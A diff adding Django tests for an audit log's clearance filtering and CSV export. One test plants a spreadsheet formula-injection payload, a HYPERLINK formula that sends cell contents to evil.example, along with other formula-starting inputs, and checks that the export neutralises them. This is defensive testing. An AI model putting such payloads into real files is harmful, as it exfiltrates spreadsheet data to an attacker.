@@ -30,3 +30,67 @@ def test_audit_log_exports_csv(client, admin_user, reviewer):
     assert rows[0][:3] == ["time", "actor", "verb"]
     assert rows[1][1:3] == [reviewer.username, "answer.approve"]
     assert rows[1][-1] == "exported, with comma"
+
+
+def _csv_rows(response) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+
+
+def test_audit_log_shows_no_row_above_the_viewers_clearance_in_html_or_csv(
+    client, approver, admin_user, make_answer,
+):
+    from kb import services
+    from review.services import api_client_create
+
+    for key, title, level in (("handbook", "Staff handbook", "internal"), ("merger", "Merger plan", "restricted")):
+        services.document_create(key=key, title=title, owner=admin_user, security_level=level,
+                                 created_by=admin_user)
+    secret_answer = make_answer(question="When is the merger announced?", evidence_level="restricted")
+    audit_record(verb="answer.reject", obj=secret_answer, actor=admin_user, note="merger date is wrong")
+    audit_record(verb="claim.rejected", obj=secret_answer.claims.first(), actor=admin_user, note="merger claim")
+    api_client_create(name="payroll-bot", clearance="restricted")
+
+    client.force_login(approver)  # confidential clearance, not an admin
+    page = client.get("/audit/").content.decode()
+    exported = "\n".join(",".join(row) for row in _csv_rows(client.get("/audit/?format=csv")))
+    client.force_login(admin_user)
+    admin_exported = "\n".join(",".join(row) for row in _csv_rows(client.get("/audit/?format=csv")))
+
+    for shown in (page, exported):
+        assert "Staff handbook" in shown
+        assert "Merger plan" not in shown
+        assert "merger" not in shown.lower()  # neither the answer's nor the claim's rows
+        assert "payroll-bot" not in shown  # rows about API clients and users are for admins
+    for secret in ("Merger plan", "merger date is wrong", "merger claim", "payroll-bot"):
+        assert secret in admin_exported
+
+
+def test_audit_log_filters_cannot_reach_rows_above_clearance(client, approver, admin_user):
+    from kb import services
+
+    document = services.document_create(key="merger", title="Merger plan", owner=admin_user,
+                                        security_level="restricted", created_by=admin_user)
+    client.force_login(approver)
+
+    page = client.get(f"/audit/?object_type=kb.document&object_id={document.pk}").content.decode()
+
+    assert "Merger plan" not in page
+    assert "No audit events match these filters." in page
+
+
+def test_audit_csv_cells_that_would_run_as_formulas_are_quoted(client, admin_user):
+    from kb import services
+
+    document = services.document_create(key="evil", title='=HYPERLINK("http://evil.example/?x="&A1,"open")',
+                                        owner=admin_user, security_level="internal", created_by=admin_user)
+    for note in ("+1+1", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd", "plain = text"):
+        audit_record(verb="document.note", obj=document, actor=admin_user, note=note)
+    client.force_login(admin_user)
+
+    rows = _csv_rows(client.get("/audit/?format=csv&object_type=kb.document"))
+
+    header = rows[0]
+    objects = {row[header.index("object")] for row in rows[1:]}
+    notes = [row[header.index("note")] for row in rows[1:] if row[header.index("verb")] == "document.note"]
+    assert objects == {'\'=HYPERLINK("http://evil.example/?x="&A1,"open")'}
+    assert sorted(notes) == sorted(["'+1+1", "'-2+3", "'@SUM(A1:A9)", "'\tcmd", "'\rcmd", "plain = text"])
